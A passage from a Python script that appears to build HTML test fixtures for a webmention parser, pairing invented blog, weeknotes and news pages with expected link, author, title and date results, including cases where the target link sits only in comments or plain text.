     "<p>Replies now come in as webmentions, from people&#8217;s own sites. Fewer of them, all of them real. The setup I copied is described in <a href=\"https://blog.example/post/1\">Receiving webmentions without a database</a>; I changed the storage to SQLite because I already had it, but the verification part is exactly as written there.</p>"
     "<p>The one thing I miss is the quick &#8220;thanks!&#8221; comment from people who don&#8217;t have a site. I have not solved that.</p>"),
    ("A small redesign", "/2024/03/small-redesign/",
     "2024-03-04T10:00:00+01:00",
     "<p>New fonts, bigger line height, fewer colours. The dark mode finally has enough contrast on links.</p>"),
    ("February in photos", "/2024/02/february-in-photos/",
     "2024-02-29T20:15:00+01:00",
     "<p>Mostly fog, two herons, and a very confused magnolia that bloomed three weeks early.</p>"
     "<figure><img src=\"/photos/2024/02/heron.jpg\" alt=\"A grey heron standing in shallow water\"><figcaption>Heron, canal, 8am.</figcaption></figure>"),
]


def feed_entry(title, url, published, content):
    return T("""      <article class="h-entry">
        <h2 class="p-name"><a class="u-url" href="{{url}}">{{title}}</a></h2>
        <p class="post-meta"><time class="dt-published" datetime="{{published}}">{{pretty}}</time></p>
        <div class="e-content">
          {{content}}
        </div>
        <p class="post-meta"><a href="{{url}}#webmentions">Responses</a></p>
      </article>
""", url=url, title=title, published=published, pretty=published[:10],
             content=content)


page("h-feed-third-entry.html", static_page(
    "Chlo\u00e9 Dubois \u2014 Journal",
    """    <div class="h-feed">
      <h1 class="p-name visually-hidden">Journal</h1>
      <p class="p-author h-card post-meta">
        <img class="u-photo avatar" src="/img/chloe.jpg" alt="">
        Written by <a class="p-name u-url" href="/">Chlo&eacute; Dubois</a>, who lives in Lyon and bakes badly.
      </p>
""" + "".join(feed_entry(*e) for e in FEED_ENTRIES) + """      <nav class="post-meta">
        <a rel="next" href="/page/2/">Older posts &rarr;</a>
      </nav>
    </div>
""", "Chlo\u00e9 Dubois", "chloe.example",
    nav=(("/", "Journal"), ("/photos/", "Photos"), ("/about/", "About")), lang="en"), {
    "links": True,
    "property": "mention-of",
    "author_name": "Chlo\u00e9 Dubois",
    "author_url": "/",
    "name": "Why I stopped using a comments plugin",
    "published": "2024-03-09T18:45:00+01:00",
    "content_contains": "I changed the storage to SQLite because I already had it",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 15. Two entries on one page (group blog); the second links, other author
# ---------------------------------------------------------------------------
page("two-entries-second-author.html", static_page(
    "Weeknotes #41 and #42 \u2014 The Allotment Collective",
    """    <article class="h-entry">
      <h2 class="p-name">Weeknotes #41</h2>
      <p class="post-meta">
        <span class="p-author h-card"><img class="u-photo avatar" src="/people/priya.jpg" alt=""><a class="p-name u-url" href="/people/priya/">Priya Raman</a></span>
        &middot; <a class="u-url" href="/weeknotes/41/"><time class="dt-published" datetime="2024-03-01T17:00:00+00:00">1 March 2024</time></a>
      </p>
      <div class="e-content">
        <p>Shipped the new membership page. Spent far too long on the colour of one button. Read <a href="https://blog.example/">a few old posts on blog.example</a> about static sites for the next project.</p>
        <p>Next week: tidy the wiki, and finally answer the email pile.</p>
      </div>
    </article>
    <hr>
    <article class="h-entry">
      <h2 class="p-name">Weeknotes #42</h2>
      <p class="post-meta">
        <span class="p-author h-card"><img class="u-photo avatar" src="/people/tomas.jpg" alt=""><a class="p-name u-url" href="/people/tomas/">Tom&aacute;s Herrera</a></span>
        &middot; <a class="u-url" href="/weeknotes/42/"><time class="dt-published" datetime="2024-03-08T16:30:00+00:00">8 March 2024</time></a>
      </p>
      <div class="e-content">
        <p>My turn this week. The big one: our site can receive webmentions now. I followed <a href="https://blog.example/post/1">this guide to receiving webmentions without a database</a> more or less line by line.</p>
        <p>The verification queue runs every minute from cron, which is crude but has not missed anything yet.</p>
      </div>
    </article>
    <nav class="post-meta"><a href="/weeknotes/">All weeknotes</a></nav>
""", "The Allotment Collective", "allotment.example",
    nav=(("/", "Home"), ("/weeknotes/", "Weeknotes"), ("/people/", "People"))), {
    "links": True,
    "property": "mention-of",
    "author_name": "Tom\u00e1s Herrera",
    "author_url": "/people/tomas/",
    "name": "Weeknotes #42",
    "published": "2024-03-08T16:30:00+00:00",
    "content_contains": "The verification queue runs every minute from cron",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 16-18. Authorship via rel=author only / via u-author URL only, both
#        resolving to the representative h-card on about.html
#        (the page URL is /about.html because pages are served as files)
# ---------------------------------------------------------------------------
MARGUERITE_NAV = (("/", "Home"), ("/writing/", "Writing"), ("/about.html", "About"))

page("rel-author-only.html", static_page(
    "On webmention spam \u2014 Marguerite Oyelaran",
    """    <article class="h-entry">
      <h1 class="p-name">On webmention spam</h1>
      <p class="post-meta">
        <a class="u-url" href="/writing/webmention-spam/"><time class="dt-published" datetime="2024-03-15T11:20:00+00:00">15 March 2024</time></a>
        &middot; by <a rel="author" href="/about.html">Marguerite</a>
      </p>
      <div class="e-content">
        <p>Every open protocol gets spam eventually, and webmention is no exception. What makes it manageable is that the receiver always fetches the source and checks it.</p>
        <p>The approach in <a href="https://blog.example/post/1">Receiving webmentions without a database</a> puts verification in a background queue, which also means a flood of fake mentions costs the spammer more than it costs you.</p>
        <p>On top of that I keep a small blocklist of domains, and I hold mentions from first-time senders for moderation.</p>
      </div>
    </article>
""", "Marguerite Oyelaran", "marguerite.example", nav=MARGUERITE_NAV), {
    "links": True,
    "property": "mention-of",
    "author_name": "Marguerite Oyelaran",
    "author_url": "/about.html",
    "name": "On webmention spam",
    "published": "2024-03-15T11:20:00+00:00",
    "content_contains": "I hold mentions from first-time senders for moderation",
    "encoding": "utf-8",
})

page("author-url-only.html", static_page(
    "Reading list, March \u2014 Marguerite Oyelaran",
    """    <article class="h-entry">
      <h1 class="p-name">Reading list, March</h1>
      <a class="u-author" href="/about.html"></a>
      <p class="post-meta"><a class="u-url" href="/writing/reading-list-march/"><time class="dt-published" datetime="2024-03-31T20:00:00+01:00">31 March 2024</time></a></p>
      <div class="e-content">
        <p>Things I read this month and liked enough to recommend:</p>
        <ul>
          <li><a href="https://blog.example/post/1">Receiving webmentions without a database</a> &mdash; practical and short.</li>
          <li><a href="https://fernbyfilms.example/2024/03/dune-part-two/">A review of Dune: Part Two</a> &mdash; for the paragraph about sand alone.</li>
          <li><a href="https://alice.example/notes/gardens">Digital gardens, five years on</a> &mdash; a gentle look back.</li>
        </ul>
        <p>April&rsquo;s list will probably be mostly about bread.</p>
      </div>
    </article>
""", "Marguerite Oyelaran", "marguerite.example", nav=MARGUERITE_NAV), {
    "links": True,
    "property": "mention-of",
    "author_name": "Marguerite Oyelaran",
    "author_url": "/about.html",
    "name": "Reading list, March",
    "published": "2024-03-31T20:00:00+01:00",
    "content_contains": "for the paragraph about sand alone",
    "encoding": "utf-8",
})

page("about.html", static_page(
    "About \u2014 Marguerite Oyelaran",
    """    <div class="h-card">
      <img class="u-photo" src="/img/marguerite.jpg" alt="Marguerite smiling in front of a bookshelf" width="160" height="160">
      <h1 class="p-name">Marguerite Oyelaran</h1>
      <p class="p-note">I write about small websites, moderation and the occasional novel. Based in <span class="p-locality">Bristol</span>, <span class="p-country-name">UK</span>.</p>
      <p>This page: <a class="u-url u-uid" href="/about.html">/about.html</a></p>
      <ul>
        <li><a rel="me" href="https://social.example/@marguerite">Mastodon</a></li>
        <li><a rel="me" href="https://code.example/moyelaran">Code</a></li>
        <li><a class="u-email" href="mailto:hello@marguerite.example">hello@marguerite.example</a></li>
      </ul>
    </div>
    <h2>Colophon</h2>
    <p>This site is built with a static site generator and hosted on a small VPS. It accepts webmentions at <code>/webmention</code>; replies, likes and reposts from your own site are welcome.</p>
    <p>I am not on any other social networks. Please don&rsquo;t look for me there.</p>
""", "Marguerite Oyelaran", "marguerite.example", nav=MARGUERITE_NAV), {
    "links": False,
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 19. Entry without any author property; the page's only h-card is top-level
#     (site header), url == uid == "/"
# ---------------------------------------------------------------------------
page("page-h-card-only.html", T("""<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Notes on moving my site to a Raspberry Pi | Olu Adebayo</title>
<link rel="stylesheet" href="/assets/css/main.css">
<link rel="alternate" type="application/rss+xml" title="Olu Adebayo" href="/feed.xml">
<link rel="webmention" href="/webmention">
<link rel="me" href="https://social.example/@olu">
<meta name="generator" content="Jekyll v4.3.3">
<meta property="og:title" content="Notes on moving my site to a Raspberry Pi">
<meta property="og:locale" content="en_GB">
<meta property="og:site_name" content="Olu Adebayo">
<meta property="og:type" content="article">
<meta property="article:published_time" content="2024-03-17T15:00:00+00:00">
<script type="application/ld+json">
{"@context":"https://schema.org","@type":"BlogPosting","headline":"Notes on moving my site to a Raspberry Pi","dateModified":"2024-03-17T15:00:00+00:00","datePublished":"2024-03-17T15:00:00+00:00","mainEntityOfPage":{"@type":"WebPage","@id":"/2024/03/17/raspberry-pi.html"}}
</script>
</head>
<body>
<header class="site-header" role="banner">
  <div class="wrapper">
    <div class="h-card site-identity">
      <img class="u-photo" src="/assets/img/olu.jpg" alt="" width="40" height="40">
      <a class="p-name u-url u-uid site-title" rel="me" href="/">Olu Adebayo</a>
      <span class="p-note site-tagline">Maker, tinkerer, occasional writer.</span>
    </div>
    <nav class="site-nav">
      <input type="checkbox" id="nav-trigger" class="nav-trigger" />
      <label for="nav-trigger"><span class="menu-icon">&#9776;</span></label>
      <div class="trigger">
        <a class="page-link" href="/about/">About</a>
        <a class="page-link" href="/projects/">Projects</a>
        <a class="page-link" href="/uses/">Uses</a>
      </div>
    </nav>
  </div>
</header>
<main class="page-content" aria-label="Content">
  <div class="wrapper">
    <article class="post h-entry" itemscope itemtype="http://schema.org/BlogPosting">
      <header class="post-header">
        <h1 class="post-title p-name" itemprop="name headline">Notes on moving my site to a Raspberry Pi</h1>
        <p class="post-meta">
          <time class="dt-published" datetime="2024-03-17T15:00:00+00:00" itemprop="datePublished">Mar 17, 2024</time>
        </p>
      </header>
      <div class="post-content e-content" itemprop="articleBody">
        <p>The site now runs on a Raspberry Pi 4 on a shelf in the hallway, behind a tunnel so I do not have to open ports on the home router.</p>
        <p>Static files are easy. The dynamic bits were the webmention receiver and the search index. For the receiver I followed the design in <a href="https://blog.example/post/1">Receiving webmentions without a database</a>, which turns out to be ideal for an SD card: writes are small and rare.</p>
        <h2 id="power">Power</h2>
        <p>It draws about three watts. The router next to it draws more.</p>
        <h2 id="backups">Backups</h2>
        <p>Nightly rsync to a USB disk, weekly to a friend&rsquo;s Pi across town. We back each other up, which is the most IndieWeb sentence I have ever written.</p>
      </div>
      <a class="u-url" href="/2024/03/17/raspberry-pi.html" hidden></a>
    </article>
  </div>
</main>
<footer class="site-footer">
  <div class="wrapper">
    <p>Subscribe <a href="/feed.xml">via RSS</a>. Built with Jekyll and the Minima theme.</p>
  </div>
</footer>
</body>
</html>
"""), {
    "links": True,
    "property": "mention-of",
    "author_name": "Olu Adebayo",
    "author_url": "/",
    "name": "Notes on moving my site to a Raspberry Pi",
    "published": "2024-03-17T15:00:00+00:00",
    "content_contains": "which turns out to be ideal for an SD card",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 20. News article, no microformats at all (og:* + "Title – Site" <title>)
# ---------------------------------------------------------------------------
page("news-no-mf.html", """<!DOCTYPE html>
<html lang="en-GB" class="no-js">
<head>
<meta charset="utf-8">
<meta http-equiv="X-UA-Compatible" content="IE=edge">
<meta name="viewport" content="width=device-width, initial-scale=1, viewport-fit=cover">
<title>Small sites are talking to each other again, and councils are noticing \u2013 The Harbour Gazette</title>
<meta name="description" content="A quiet protocol for cross-site replies is turning up in unexpected places, including the town hall.">
<meta name="robots" content="index, follow, max-image-preview:large">
<meta property="og:type" content="article">
<meta property="og:title" content="Small sites are talking to each other again, and councils are noticing">
<meta property="og:description" content="A quiet protocol for cross-site replies is turning up in unexpected places, including the town hall.">
<meta property="og:site_name" content="The Harbour Gazette">
<meta property="og:image" content="/images/2024/03/harbour-office-1200.jpg">
<meta property="og:image:width" content="1200">
<meta property="og:image:height" content="675">
<meta property="article:section" content="Technology">
<meta property="article:published_time" content="2024-03-18T06:00:00Z">
<meta name="twitter:card" content="summary_large_image">
<meta name="twitter:site" content="@harbourgazette">
<link rel="preconnect" href="https://cdn.harbourgazette.example" crossorigin>
<link rel="stylesheet" href="/static/css/article.8f3c2a.css">
<link rel="amphtml" href="/amp/technology/2024/03/18/small-sites-talking">
<script type="application/ld+json">
{"@context":"https://schema.org","@type":"NewsArticle","headline":"Small sites are talking to each other again, and councils are noticing","datePublished":"2024-03-18T06:00:00Z","publisher":{"@type":"Organization","name":"The Harbour Gazette","logo":{"@type":"ImageObject","url":"/static/img/logo-600x60.png"}},"image":["/images/2024/03/harbour-office-1200.jpg"],"isAccessibleForFree":true}
</script>
<script>
  window.dataLayer = window.dataLayer || [];
  function gtag(){dataLayer.push(arguments);}
  gtag('js', new Date());
  gtag('config', 'G-HG0000TEST', {'anonymize_ip': true, 'content_group': 'technology'});
  document.documentElement.className = document.documentElement.className.replace('no-js', 'js');
</script>
<script async src="/static/js/consent.2b91e0.js"></script>
</head>
<body class="template-article section-technology">
<a class="skip-link" href="#article-body">Skip to main content</a>
<div class="consent-banner" role="dialog" aria-live="polite" hidden>
  <p>We use cookies to understand how our journalism is read. <a href="/privacy">Privacy policy</a></p>
  <button type="button" class="btn-accept">Accept</button> <button type="button" class="btn-reject">Reject</button>
</div>
<header class="masthead">
  <div class="masthead__inner">
    <a class="masthead__logo" href="/"><img src="/static/img/logo.svg" alt="The Harbour Gazette" width="240" height="32"></a>
    <nav class="primary-nav" aria-label="Sections">
      <ul>
        <li><a href="/news">News</a></li>
        <li><a href="/politics">Politics</a></li>
        <li><a href="/business">Business</a></li>
        <li class="is-active"><a href="/technology">Technology</a></li>
        <li><a href="/sport">Sport</a></li>
        <li><a href="/culture">Culture</a></li>
        <li><a href="/opinion">Opinion</a></li>
      </ul>
    </nav>
    <a class="btn-subscribe" href="/subscribe?ref=masthead">Subscribe</a>
  </div>
</header>
<main id="main">
  <article class="article">
    <header class="article__header">
      <p class="article__kicker"><a href="/technology">Technology</a></p>
      <h1 class="article__headline">Small sites are talking to each other again, and councils are noticing</h1>
      <p class="article__standfirst">A quiet protocol for cross-site replies is turning up in unexpected places, including the town hall.</p>
      <div class="article__byline">
        <span class="byline__name">By Ruth Ellison</span>, Technology correspondent
        <span class="byline__date">Monday 18 March 2024</span>
      </div>
    </header>
    <figure class="article__lead-image">
      <img src="/images/2024/03/harbour-office-800.jpg" srcset="/images/2024/03/harbour-office-800.jpg 800w, /images/2024/03/harbour-office-1200.jpg 1200w" sizes="(max-width: 800px) 100vw, 800px" alt="The harbour office at dusk" width="800" height="450">
      <figcaption>The harbour office, where the council's new site is maintained. Photograph: Staff</figcaption>
    </figure>
    <div class="article__body" id="article-body">
      <p>When the harbour council relaunched its website last autumn, the most unusual feature was not the new design or the bin collection calendar. It was a small box at the bottom of each announcement listing the blogs that had written about it.</p>
      <p>The box is powered by webmention, an open standard that lets one website tell another that it has linked to it. The receiving site then fetches the linking page, checks that the link is really there, and can display it as a reply or a mention.</p>
      <aside class="related-inline"><h2>Read more</h2><ul><li><a href="/technology/2024/02/27/broadband-rollout-harbour">Broadband rollout reaches the harbour villages</a></li><li><a href="/opinion/2024/01/12/why-local-websites-matter">Why local websites still matter</a></li></ul></aside>
      <p>&ldquo;We wanted residents to be able to respond on their own terms,&rdquo; said a council spokesperson. &ldquo;If a local history group writes something about the new lighthouse hours, that belongs next to the announcement.&rdquo;</p>
      <p>The council&rsquo;s developers say they based their implementation on <a href="https://blog.example/post/1">a widely shared guide to receiving webmentions without a database</a>, because the council&rsquo;s hosting contract did not include one.</p>
      <p>Not everyone is convinced. One councillor described the feature as &ldquo;comments by another name&rdquo; and asked who would moderate them. The answer, for now, is the same two developers, who say they have removed four mentions in six months.</p>
      <p>Elsewhere in the county, two parish councils and a library service are said to be looking at doing the same.</p>
      <div class="article__newsletter">
        <h2>Get the Harbour Briefing</h2>
        <p>The day's local news in your inbox at 7am.</p>
        <form action="/newsletter/subscribe" method="post"><label for="nl-email">Email address</label><input id="nl-email" type="email" name="email" required><button type="submit">Sign up</button></form>
      </div>
    </div>
    <footer class="article__footer">
      <ul class="article__tags"><li><a href="/topics/internet">Internet</a></li><li><a href="/topics/local-government">Local government</a></li></ul>
      <div class="share-tools"><a href="/share?network=email">Share via email</a> <a href="/share?network=copy">Copy link</a></div>
    </footer>
  </article>
  <section class="most-read" aria-labelledby="most-read-title">
    <h2 id="most-read-title">Most read</h2>
    <ol>
      <li><a href="/news/2024/03/17/ferry-timetable-changes">Ferry timetable changes from April: what you need to know</a></li>
      <li><a href="/sport/2024/03/17/harbour-rovers-promotion">Harbour Rovers edge closer to promotion</a></li>
      <li><a href="/culture/2024/03/16/lighthouse-festival-lineup">Lighthouse festival announces full line-up</a></li>
      <li><a href="/news/2024/03/16/storm-damage-seafront">Storm damage closes part of seafront</a></li>
      <li><a href="/business/2024/03/15/fish-market-reopens">Fish market reopens after refurbishment</a></li>
    </ol>
  </section>
</main>
<footer class="site-footer">
  <nav aria-label="Footer"><a href="/about">About us</a> <a href="/contact">Contact</a> <a href="/corrections">Corrections</a> <a href="/privacy">Privacy</a> <a href="/terms">Terms</a></nav>
  <p>&copy; 2024 The Harbour Gazette Ltd. Registered in England and Wales.</p>
</footer>
<script src="/static/js/article.5c7d11.js" defer></script>
</body>
</html>
""", {
    "links": True,
    "property": "mention-of",
    "author_name": "The Harbour Gazette",
    "author_url": None,
    "name": "Small sites are talking to each other again, and councils are noticing",
    "content_contains": "they based their implementation on a widely shared guide to receiving webmentions without a database, because",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 21. Ghost (Casper-ish) blog post, no microformats; link mid long paragraph
# ---------------------------------------------------------------------------
LONG_PARA = (
    "I have been running this blog for a little over nine years now, and in that time it has moved between four "
    "different hosts, three different publishing systems and at least two completely different ideas of what it is "
    "for, which is a long way of saying that the one constant has been the feeling that nobody reads it, a feeling "
    "that is mostly wrong but very hard to shake when the only feedback you get is a visitor counter that goes up "
    "and down for reasons you cannot explain; so when a friend suggested I add some way for other people&rsquo;s "
    "sites to tell mine when they had written about something here, I was sceptical, because I remembered the "
    "trackback spam of the late 2000s and the week I spent deleting eleven thousand pingbacks for online pharmacies, "
    "but she sent me <a href=\"https://blog.example/post/1\">a clear explanation of how receiving webmentions "
    "works without a database</a> and I read it on the bus home and by the time I got off I had more or less decided "
    "to try it, partly because the verification step answers the spam problem directly (the receiver fetches the "
    "page and checks that the link is really there, so you cannot just fire off claims at random) and partly because "
    "the whole thing is small enough to understand in one sitting, which matters to me more than it probably should; "
    "it took an evening to set up, another evening to make the replies look nice, and then a week of nothing at all, "
    "until one Tuesday a short note from someone I had never heard of arrived saying that my post about repairing "
    "old radios had helped them fix their grandfather&rsquo;s Roberts, and I am not embarrassed to say that I read "
    "it three times and then went for a walk."
)

page("blog-no-mf-long-paragraph.html", T("""<!DOCTYPE html>
<html lang="en">
<head>

    <title>Nobody reads this blog (except sometimes they do)</title>
    <meta charset="utf-8" />
    <meta http-equiv="X-UA-Compatible" content="IE=edge" />
    <meta name="HandheldFriendly" content="True" />
    <meta name="viewport" content="width=device-width, initial-scale=1.0" />

    <link rel="preload" as="style" href="/assets/built/screen.css?v=5c6e3a1b2f" />
    <link rel="preload" as="script" href="/assets/built/casper.js?v=5c6e3a1b2f" />
    <link rel="stylesheet" type="text/css" href="/assets/built/screen.css?v=5c6e3a1b2f" />

    <meta name="description" content="On the small, surprising pleasure of being linked to.">
    <link rel="icon" href="/content/images/size/w256h256/2022/05/hinge.png" type="image/png">
    <link rel="canonical" href="/nobody-reads-this-blog/">
    <meta name="referrer" content="no-referrer-when-downgrade">

    <meta property="og:site_name" content="Rusty Hinge">
    <meta property="og:type" content="article">
    <meta property="og:title" content="Nobody reads this blog (except sometimes they do)">
    <meta property="og:description" content="On the small, surprising pleasure of being linked to.">
    <meta property="article:published_time" content="2024-03-20T19:41:07.000Z">
    <meta property="article:modified_time" content="2024-03-21T08:02:55.000Z">
    <meta property="article:tag" content="Meta">
    <meta name="twitter:card" content="summary">
    <meta name="twitter:title" content="Nobody reads this blog (except sometimes they do)">
    <meta name="twitter:label1" content="Written by">
    <meta name="twitter:data1" content="Gareth Pryce">
    <meta name="twitter:label2" content="Filed under">
    <meta name="twitter:data2" content="Meta">
    <meta name="generator" content="Ghost 5.80">
    <link rel="alternate" type="application/rss+xml" title="Rusty Hinge" href="/rss/">
    <script defer src="https://cdn.jsdelivr.example/ghost/portal@~2.37/umd/portal.min.js" data-i18n="false" data-ghost="/" data-key="0f1e2d3c4b5a69788796a5b4c3" data-api="/ghost/api/content/" crossorigin="anonymous"></script><style id="gh-members-styles">.gh-post-upgrade-cta-content,
.gh-post-upgrade-cta {
    display: flex;
    flex-direction: column;
    align-items: center;
    font-family: -apple-system, BlinkMacSystemFont, 'Segoe UI', Roboto, Oxygen, Ubuntu, Cantarell, 'Open Sans', 'Helvetica Neue', sans-serif;
    text-align: center;
    width: 100%;
    color: #ffffff;
    font-size: 16px;
}
.gh-post-upgrade-cta-content {
    border-radius: 8px;
    padding: 40px 4vw;
}
.gh-post-upgrade-cta h2 {
    color: #ffffff;
    font-size: 28px;
    letter-spacing: -0.2px;
    margin: 0;
    padding: 0;
}
</style>
    <script defer src="https://cdn.jsdelivr.example/ghost/sodo-search@~1.1/umd/sodo-search.min.js" data-key="0f1e2d3c4b5a69788796a5b4c3" data-styles="https://cdn.jsdelivr.example/ghost/sodo-search@~1.1/umd/main.css" data-sodo-search="/" crossorigin="anonymous"></script>
    <link href="/webmentions/receive/" rel="webmention">
    <script defer src="/public/cards.min.js?v=5c6e3a1b2f"></script>
    <link rel="stylesheet" type="text/css" href="/public/cards.min.css?v=5c6e3a1b2f">
    <style>:root {--ghost-accent-color: #8a4b2d;}</style>
</head>
<body class="post-template tag-meta is-head-left-logo has-cover">
<div class="viewport">

    <header id="gh-head" class="gh-head outer">
        <div class="gh-head-inner inner">
            <div class="gh-head-brand">
                <a class="gh-head-logo no-image" href="/">Rusty Hinge</a>
                <button class="gh-search gh-icon-btn" aria-label="Search this site" data-ghost-search><svg xmlns="http://www.w3.org/2000/svg" fill="none" viewBox="0 0 24 24" stroke="currentColor" stroke-width="2" width="20" height="20"><path stroke-linecap="round" stroke-linejoin="round" d="M21 21l-6-6m2-5a7 7 0 11-14 0 7 7 0 0114 0z"></path></svg></button>
                <button class="gh-burger" aria-label="Main Menu"></button>
            </div>
            <nav class="gh-head-menu">
                <ul class="nav">
    <li class="nav-home"><a href="/">Home</a></li>
    <li class="nav-radios"><a href="/tag/radios/">Radios</a></li>
    <li class="nav-meta"><a href="/tag/meta/">Meta</a></li>
    <li class="nav-about"><a href="/about/">About</a></li>
</ul>
            </nav>
            <div class="gh-head-actions">
                    <a class="gh-head-button" href="#/portal/signup" data-portal="signup">Subscribe</a>
            </div>
        </div>
    </header>

    <div class="site-content">
<main id="site-main" class="site-main">
<article class="article post tag-meta ">

    <header class="article-header gh-canvas">
        <div class="article-tag post-card-tags">
                <span class="post-card-primary-tag">
                    <a href="/tag/meta/">Meta</a>
                </span>
        </div>
        <h1 class="article-title">Nobody reads this blog (except sometimes they do)</h1>
            <p class="article-excerpt">On the small, surprising pleasure of being linked to.</p>
        <div class="article-byline">
        <section class="article-byline-content">
            <ul class="author-list">
                <li class="author-list-item">
                    <a href="/author/gareth/" class="author-avatar author-profile-image"><img class="author-profile-image" src="/content/images/size/w100/2022/05/gareth.jpg" alt="Gareth Pryce" /></a>
                </li>
            </ul>
            <div class="article-byline-meta">
                <h4 class="author-name"><a href="/author/gareth/">Gareth Pryce</a></h4>
                <div class="byline-meta-content">
                    <time class="byline-meta-date" datetime="2024-03-20">Mar 20, 2024</time>
                        <span class="byline-reading-time"><span class="bull">&bull;</span> 3 min read</span>
                </div>
            </div>
        </section>
        </div>
    </header>

    <section class="gh-content gh-canvas">
        <p>{{para}}</p>
        <p>So: if you have written something that links here, and you would like me to know, your site might already be telling mine. If it isn&rsquo;t, the form at the bottom of every post still works, and so does email.</p>
        <hr>
        <p>Next time, back to radios. The Bush DAC90A on the bench has a cracked case and a lot of opinions.</p>
    </section>

</article>
</main>

<aside class="read-more-wrap outer">
    <div class="read-more inner">
                <article class="post-card post">
    <a class="post-card-image-link" href="/roberts-r200-restoration/"><img class="post-card-image" src="/content/images/size/w600/2024/02/roberts.jpg" alt="Roberts R200 restoration" loading="lazy" /></a>
    <div class="post-card-content">
        <a class="post-card-content-link" href="/roberts-r200-restoration/">
            <header class="post-card-header"><div class="post-card-tags"><span class="post-card-primary-tag">Radios</span></div><h2 class="post-card-title">Roberts R200 restoration, part two</h2></header>
            <div class="post-card-excerpt">The tuning cord snapped. Of course it did.</div>
        </a>
        <footer class="post-card-meta"><time class="post-card-meta-date" datetime="2024-02-11">Feb 11, 2024</time><span class="post-card-meta-length">6 min read</span></footer>
    </div>
</article>
                <article class="post-card post">
    <div class="post-card-content">
        <a class="post-card-content-link" href="/new-host-again/">
            <header class="post-card-header"><div class="post-card-tags"><span class="post-card-primary-tag">Meta</span></div><h2 class="post-card-title">New host, again</h2></header>
            <div class="post-card-excerpt">The fourth move in nine years. This one should stick.</div>
        </a>
        <footer class="post-card-meta"><time class="post-card-meta-date" datetime="2024-01-04">Jan 4, 2024</time><span class="post-card-meta-length">2 min read</span></footer>
    </div>
</article>
    </div>
</aside>

    </div>

    <footer class="site-footer outer">
        <div class="inner">
            <section class="copyright"><a href="/">Rusty Hinge</a> &copy; 2024</section>
            <nav class="site-footer-nav">
                <ul class="nav"><li class="nav-rss"><a href="/rss/">RSS</a></li><li class="nav-sign-up"><a href="#/portal/">Sign up</a></li></ul>
            </nav>
            <div class="gh-powered-by"><a href="https://ghost.org/" target="_blank" rel="noopener">Powered by Ghost</a></div>
        </div>
    </footer>

</div>
<script src="https://code.jquery.example/jquery-3.5.1.min.js" crossorigin="anonymous"></script>
<script src="/assets/built/casper.js?v=5c6e3a1b2f"></script>
<script>
$(document).ready(function () {
    // Mobile Menu Trigger
    $('.gh-burger').click(function () {
        $('body').toggleClass('gh-head-open');
    });
    // FitVids - Makes video embeds responsive
    $(".gh-content").fitVids();
});
</script>
</body>
</html>
""", para=LONG_PARA), {
    "links": True,
    "property": "mention-of",
    "author_name": "Rusty Hinge",
    "author_url": None,
    "name": "Nobody reads this blog (except sometimes they do)",
    "content_contains": "I read it on the bus home and by the time I got off I had more or less decided",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 22. The only "link" to the target is inside HTML comments  (links: false)
# ---------------------------------------------------------------------------
page("link-in-html-comment.html", static_page(
    "Draft-ish: things I want to write about \u2014 Noor Haddad",
    """    <article class="h-entry">
      <h1 class="p-name">Things I want to write about</h1>
      <p class="post-meta"><a class="p-author h-card" href="/">Noor Haddad</a> &middot;
        <a class="u-url" href="/2024/03/things-to-write-about/"><time class="dt-published" datetime="2024-03-21T09:00:00+02:00">21 March 2024</time></a></p>
      <div class="e-content">
        <p>A list, mostly for me, of posts that are half-written in my head:</p>
        <ul>
          <li>Why my bookshelf is sorted by colour and why I regret it.</li>
          <li>The case for a personal changelog.</li>
          <!-- <li>Webmentions: response to <a href="https://blog.example/post/1">Receiving webmentions without a database</a> (need to re-read first)</li> -->
          <li>Cooking for one without eating the same thing four days in a row.</li>
        </ul>
        <!--
          TODO before publishing:
          - link https://blog.example/post/1 properly once I've read it again
          - <a href="https://blog.example/post/1">source</a>
        -->
        <p>If one of these sounds interesting, tell me and I&rsquo;ll write it first.</p>
      </div>
    </article>
    <!--[if lt IE 9]><a href="https://blog.example/post/1">old browsers link</a><![endif]-->
""", "Noor Haddad", "noor.example"), {
    "links": False,
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 23. Target only as plain text, plus links to *other* blog.example URLs
#     (https://blog.example/post/12 and the home page)   (links: false)
# ---------------------------------------------------------------------------
page("plain-text-only.html", static_page(
    "Link roundup #7 \u2014 Oskar Nilsson",
    """    <article class="h-entry">
      <h1 class="p-name">Link roundup #7</h1>
      <p class="post-meta"><a class="p-author h-card" href="/">Oskar Nilsson</a> &middot;
        <a class="u-url" href="/roundups/7/"><time class="dt-published" datetime="2024-03-22T12:00:00+01:00">22 March 2024</time></a></p>
      <div class="e-content">
        <p>This week&rsquo;s reading, with the caveat that my site&rsquo;s Markdown renderer stopped auto-linking bare URLs after an upgrade, so some of these you will have to copy and paste:</p>
        <ol>
          <li>Receiving webmentions without a database &mdash; https://blog.example/post/1 &mdash; the one everyone keeps sending me.</li>
          <li><a href="https://blog.example/post/12">Styling code blocks for dark mode</a>, from the same blog.</li>
          <li>The <a href="https://blog.example/">blog.example</a> archive in general is worth an afternoon.</li>
          <li><a href="https://alice.example/notes/gardens">Digital gardens, five years on</a>.</li>
          <li>Plain URL again, for the record: <code>https://blog.example/post/1</code></li>
        </ol>
        <p>See you next week.</p>
      </div>
    </article>
""", "Oskar Nilsson", "oskar.example"), {
    "links": False,
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 24. Target only inside <script>, <textarea>, data-* and form values
#     (links: false)
# ---------------------------------------------------------------------------
page("script-textarea-only.html", static_page(
    "Embed code for my reply widget \u2014 Yusuf Demir",
    """    <article class="h-entry">
      <h1 class="p-name">Embed code for my reply widget</h1>
      <p class="post-meta"><a class="p-author h-card" href="/">Yusuf Demir</a> &middot;
        <a class="u-url" href="/2024/03/reply-widget/"><time class="dt-published" datetime="2024-03-23T16:20:00+03:00">23 March 2024</time></a></p>
      <div class="e-content">
        <p>A few people asked how the little &ldquo;reply from your own site&rdquo; widget works. Paste this into your template and change the target:</p>
